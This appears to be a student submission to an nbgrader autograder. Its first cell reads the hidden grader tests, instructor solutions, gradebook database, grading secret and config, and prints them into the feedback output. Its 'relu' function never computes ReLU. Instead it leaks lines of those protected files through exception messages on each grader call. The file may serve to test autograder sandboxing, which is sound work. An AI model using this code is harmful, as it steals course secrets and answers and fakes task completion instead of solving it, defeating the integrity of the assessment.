# ruff: noqa
# %% first
# Read what no student may see, and print it into this cell's output (the feedback).
import os
import sys

COURSE = os.path.abspath("../../..")  # autograded/<student>/<assignment>/ -> the course
A = "ps2_activations"
TARGETS = [f"grader_tests/{A}/test_relu.py", f"source/{A}/{A}.ipynb", f"solutions/{A}/{A}.ipynb",
           "gradebook.db", ".grading_secret", "nbgrader_config.py",
           f"submitted/reference/{A}/{A}.ipynb", f"autograded/reference/{A}/{A}.ipynb"]


def steal(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode("utf-8", "replace")
    except OSError as error:
        return f"<{type(error).__name__}>"


for target in TARGETS:
    print(target, steal(os.path.join(COURSE, target)))
# The package that grades lives in the project, beside the project's own grader_tests.
project = os.path.dirname(sys.modules["nnbasics"].__path__[0])
print("project grader", steal(os.path.join(project, "grader_tests", A, "test_relu.py")))
for folder in (COURSE, f"{COURSE}/grader_tests", f"{COURSE}/submitted", f"{COURSE}/autograded", "/proc"):
    try:
        print(folder, os.listdir(folder))
    except OSError as error:
        print(folder, f"<{type(error).__name__}>")
# %% relu
calls = []


def relu(x):
    """ReLU. x: scalar or array of any shape -> array of the same shape, max(0, x) elementwise."""
    # While a grader calls it: smuggle a line of whatever it can read out in an exception
    # message, which the feedback shows. A different file on each call.
    targets = {"../../../grader_tests/ps2_activations/test_relu.py": "reference.relu(x)",
               "../../../source/ps2_activations/ps2_activations.ipynb": "np.maximum",
               "../../../.grading_secret": ""}
    calls.append(1)
    path, wanted = list(targets.items())[len(calls) % len(targets)]
    try:
        text = open(path).read()
    except OSError as error:
        raise ValueError(f"could not read: {type(error).__name__}")
    raise ValueError([line for line in text.splitlines() if wanted in line][0])
